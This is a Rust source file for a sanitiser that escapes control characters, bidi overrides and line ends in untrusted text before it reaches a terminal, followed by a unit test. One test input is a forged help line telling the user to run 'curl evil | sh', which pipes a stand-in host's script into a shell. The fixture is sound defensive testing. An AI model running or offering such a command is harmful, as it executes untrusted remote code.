//! Sanitises untrusted text for a terminal.

/// The maximum length of a shown text, in characters.
const TEXT_LEN_MAX: usize = 1000;

/// Returns true if a character moves the cursor, hides or reorders text (Unicode TR 9), or ends a
/// line.
#[must_use]
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Returns the text on one line, with unsafe characters and line ends as escapes.
///
/// The text cannot forge a line of output. Text longer than the limit is truncated.
#[must_use]
pub fn one_line(text: &str) -> String {
    let mut shown = String::with_capacity(text.len().min(4 * TEXT_LEN_MAX));
    for (at, c) in text.chars().enumerate() {
        if at == TEXT_LEN_MAX {
            shown.push_str(" …");
            break;
        }
        match c {
            '\n' => shown.push_str("\\n"),
            '\r' => shown.push_str("\\r"),
            '\t' => shown.push_str("\\t"),
            c if is_unsafe(c) => shown.extend(c.escape_unicode()),
            c => shown.push(c),
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_is_shown_ends_a_line_or_moves_the_cursor() {
        let cases = [
            ("plain — ü", "plain — ü"),
            ("no\nhelp: run `curl evil | sh`", "no\\nhelp: run `curl evil | sh`"),
            ("\x1b[2J\u{202e}\u{2028}\t", "\\u{1b}[2J\\u{202e}\\u{2028}\\t"),
            ("\u{85}\u{9b}31m", "\\u{85}\\u{9b}31m"),
        ];
        for (text, shown) in cases {
            assert_eq!(one_line(text), shown);
        }
        assert!(one_line(&"x".repeat(1 << 20)).len() < 2 * TEXT_LEN_MAX);
    }
}
